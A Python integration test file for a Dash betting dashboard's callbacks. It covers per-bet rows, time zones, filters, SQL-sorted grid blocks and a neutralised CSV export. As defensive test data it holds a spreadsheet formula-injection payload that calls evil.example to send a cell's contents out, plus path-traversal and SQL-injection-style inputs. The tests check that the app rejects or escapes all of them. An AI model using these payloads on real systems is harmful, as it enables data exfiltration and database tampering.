"""The bets page's callbacks through /_dash-update-component: one row per bet, arbitrage with
its legs, signed odds, the viewer's zone, filters, totals, a dated neutralised CSV."""

from __future__ import annotations

import csv
import io
import json

from app.models import Recommendation
from tests.integration.bets_data import NOW, seed_bets

OUT = "..bets-totals.children...bets-book.options.."
ROWS = "bets-table.getRowsResponse"
FIRST_BLOCK = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def _inputs(tz="America/New_York", **values):
    ids = ("bets-state", "bets-strategy", "bets-book", "bets-market")
    out = [{"id": i, "property": "value", "value": values.get(i.split("-")[1])} for i in ids]
    out += [
        {"id": "bets-dates", "property": "start_date", "value": values.get("start")},
        {"id": "bets-dates", "property": "end_date", "value": values.get("end")},
        {"id": "display-tz", "property": "value", "value": tz},
        {"id": "bets-refresh", "property": "n_intervals", "value": 1},
    ]
    return out


def _table(client, request=None, **values):
    """The totals callback's answer, and the grid's first block as "bets-table" "data"."""
    r = client.callback(OUT, _inputs(**values))
    assert r.status_code == 200, r.data
    props = json.loads(r.data)["response"]
    *filters, tz, _tick = _inputs(**values)
    block = [{"id": "bets-table", "property": "getRowsRequest", "value": request or FIRST_BLOCK}]
    r = client.callback(ROWS, block, state=[*filters, tz])
    assert r.status_code == 200, r.data
    response = json.loads(r.data)["response"]["bets-table"]["getRowsResponse"]
    props["bets-table"] = {"data": response["rowData"], "count": response["rowCount"]}
    return props


def test_one_row_per_bet_with_names_signs_and_zone(app, login_as, db) -> None:
    app.extensions["dugout.clock"] = lambda: NOW
    seed_bets(db)
    props = _table(login_as("viewer"))
    rows = props["bets-table"]["data"]
    assert len(rows) == 4
    spread = next(r for r in rows if r["market"] == "Run line")
    assert spread["tags"] == "ev · stale_line · steam"  # three strategies, one row
    assert spread["bet"] == "BOS -1.5" and spread["price"] == "+166"
    assert spread["game"] == "Boston Red Sox @ Seattle Mariners"
    assert spread["start"] == "2026-07-04 16:00 EDT"  # 20:00 UTC in New York
    assert spread["now"] == "+160 DraftKings" and spread["available"] == "no"
    won = next(r for r in rows if r["state"] == "settled")
    assert won["book"] == "Caesars" and won["price"] == "-110"
    assert (won["clv"], won["close"], won["units"]) == ("+5.00%", "-125", "+0.91 u")
    arb = next(r for r in rows if r["kind"] == "arbitrage")
    assert arb["bet"] == "Arbitrage both sides 8.5" and arb["book"] == "BetMGM + DraftKings"
    assert arb["price"] == "—"  # the legs carry the prices
    assert arb["legs"] == "Over 8.5 +105 DraftKings 0.99 u / Under 8.5 +103 BetMGM 1.01 u"
    books = [o["label"] for o in props["bets-book"]["options"]]
    assert books == ["BetMGM", "Caesars", "DraftKings", "FanDuel"]
    totals = json.dumps(props["bets-totals"]["children"])
    assert "+0.91 u" in totals and "+90.9%" in totals and "1-0-0" in totals


def test_the_zone_switch_moves_every_time(login_as, db) -> None:
    seed_bets(db)
    client = login_as("viewer")
    pacific = _table(client, tz="America/Los_Angeles")["bets-table"]["data"]
    assert "2026-07-04 13:00 PDT" in {r["start"] for r in pacific}
    hostile = _table(client, tz="../../etc/passwd")["bets-table"]["data"]  # falls back
    assert "2026-07-04 16:00 EDT" in {r["start"] for r in hostile}


def test_filters_and_junk_from_the_browser(login_as, db) -> None:
    seed_bets(db)
    client = login_as("viewer")
    only = _table(client, state="settled")["bets-table"]["data"]
    assert [r["book"] for r in only] == ["Caesars"]
    legs = _table(client, book="betmgm")["bets-table"]["data"]
    assert [r["kind"] for r in legs] == ["arbitrage"]
    days = _table(client, start="2026-07-03", end="2026-07-03")["bets-table"]["data"]
    assert [r["state"] for r in days] == ["settled"]  # 2026-07-03 14:00 EDT
    junk = _table(client, state={"$ne": 1}, strategy="'; drop", start="not-a-date", end=7)
    assert len(junk["bets-table"]["data"]) == 4  # ignored, never a 500


def test_the_grid_gets_blocks_sorted_in_sql(login_as, db) -> None:
    seed_bets(db)
    client = login_as("viewer")
    first = _table(client, {**FIRST_BLOCK, "endRow": 2})["bets-table"]
    assert len(first["data"]) == 2 and first["count"] == 4  # two sent, four counted
    rest = _table(client, {**FIRST_BLOCK, "startRow": 2, "endRow": 4})["bets-table"]["data"]
    assert {r["id"] for r in first["data"]}.isdisjoint({r["id"] for r in rest})
    by_stake = {**FIRST_BLOCK, "sortModel": [{"colId": "stake", "sort": "desc"}]}
    stakes = [float(r["stake"].split()[0]) for r in _table(client, by_stake)["bets-table"]["data"]]
    assert stakes == sorted(stakes, reverse=True)
    hostile = {**FIRST_BLOCK, "sortModel": [{"colId": "1; DROP TABLE grades", "sort": "asc"}]}
    assert len(_table(client, hostile)["bets-table"]["data"]) == 4  # an unknown key is dropped


def test_csv_is_dated_neutralised_and_follows_filters(app, login_as, db) -> None:
    app.extensions["dugout.clock"] = lambda: NOW
    seed_bets(db)
    with db.session() as s:
        rec = s.query(Recommendation).filter_by(bet_key="open").one()
        rec.book = "@evil"
        rec.strategies = [HOSTILE]
    client = login_as("viewer")
    inputs = [{"id": "bets-csv", "property": "n_clicks", "value": 1}]
    state = [
        {"id": "bets-state", "property": "value", "value": "open"},
        {"id": "bets-strategy", "property": "value", "value": None},
        {"id": "bets-book", "property": "value", "value": None},
        {"id": "bets-market", "property": "value", "value": None},
        {"id": "bets-dates", "property": "start_date", "value": None},
        {"id": "bets-dates", "property": "end_date", "value": None},
        {"id": "display-tz", "property": "value", "value": "UTC"},
    ]
    r = client.callback("bets-download.data", inputs, state=state)
    assert r.status_code == 200, r.data
    data = json.loads(r.data)["response"]["bets-download"]["data"]
    assert data["filename"] == "dugout-bets-2026-07-04.csv"
    rows = list(csv.reader(io.StringIO(data["content"])))
    assert rows[0][:3] == ["Bet", "Price", "Stake"]
    assert len(rows) == 1 + 2  # the open filter: the spread and the arbitrage
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HOSTILE in cells and "'@evil" in cells and "+166" in cells
    assert not any(c.startswith(("=", "@", "\t", "\r")) for c in cells)
